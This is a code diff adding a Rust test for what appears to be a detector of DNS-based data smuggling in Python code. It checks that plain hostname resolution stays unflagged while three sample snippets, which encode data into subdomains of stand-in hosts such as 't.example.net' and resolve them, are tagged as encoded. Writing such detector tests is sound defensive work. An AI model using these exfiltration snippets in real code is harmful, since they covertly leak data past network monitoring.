@@ -379,3 +379,30 @@ fn receiver_changing_calls_carry_what_went_in() {
         run("import configparser\ncp = configparser.ConfigParser()\ncp.read(['settings.ini'])\n");
     assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
 }
+
+#[test]
+fn dns_lookup_of_a_given_host_is_not_smuggling() {
+    // A load tester checking that the user's URL resolves to a private
+    // address: the host is looked up whole.
+    let ev = run(
+        "import socket\nfrom urllib.parse import urlparse\nhost = urlparse(url).hostname or ''\nsocket.getaddrinfo(host, None)\n",
+    );
+    let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
+    assert!(!q.has(Tag::Encoded), "{ev:#?}");
+    let ev = run(
+        "import socket\nfrom urllib.parse import urlparse\n\ndef check(h):\n    return socket.getaddrinfo(h, None)\n\ncheck(urlparse(url).hostname)\n",
+    );
+    let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
+    assert!(!q.has(Tag::Encoded), "{ev:#?}");
+    // Data joined to fixed labels, directly or through a variable.
+    for code in [
+        "import socket, base64\nlabel = base64.b32encode(data).decode() + '.x.example.net'\nsocket.gethostbyname(label)\n",
+        "import socket\nfor c in chunks:\n    socket.gethostbyname(f'{c}.t.example.net')\n",
+        // Through a parameter: what the callers pass.
+        "import socket\n\ndef look(n):\n    socket.gethostbyname(n)\n\nfor c in chunks:\n    look(c + '.t.example.net')\n",
+    ] {
+        let ev = run(code);
+        let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
+        assert!(q.has(Tag::Encoded), "{code}: {ev:#?}");
+    }
+}
